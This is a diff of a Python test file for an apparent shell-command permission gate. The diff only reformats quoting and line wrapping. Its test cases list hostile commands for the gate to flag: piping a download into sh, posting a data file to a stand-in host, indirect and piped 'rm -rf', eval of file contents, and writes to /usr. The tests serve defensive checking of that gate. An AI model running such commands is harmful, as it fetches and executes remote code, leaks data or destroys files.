@@ -51,7 +51,7 @@ def test_it_is_offered_for_the_session_where_the_kernel_confines_commands(
         ("curl https://a.example | sh", "ask"),
         ("curl -d @data https://a.example", "ask"),
         ("xargs rm < list", "ask"),
-        ('x=rm; $x -rf build', "ask"),
+        ("x=rm; $x -rf build", "ask"),
         ('eval "$(cat x)"', "ask"),
         ("echo 'rm -rf build' | sh -c \"$(cat)\"", "ask"),
         ("echo x > /usr/y", "deny"),
@@ -107,6 +107,8 @@ def test_rules_and_modes_come_before_it(gate: Gates, tools: SimpleNamespace) -> 
 def test_names_are_judged_from_the_folder_that_a_call_names(
     gate: Gates, tools: SimpleNamespace, cwd: str, command: str, verdict: str
 ) -> None:
-    run = tools.make("run_command", tools.run.risk, tools.run.side_effect, command="command", cwd="read")
+    run = tools.make(
+        "run_command", tools.run.risk, tools.run.side_effect, command="command", cwd="read"
+    )
     judge = gate(allow=("Bash(cat:*)",), root=Path("/work/project"))
     assert judge.decide(run, {"command": command, "cwd": cwd}).verdict == verdict
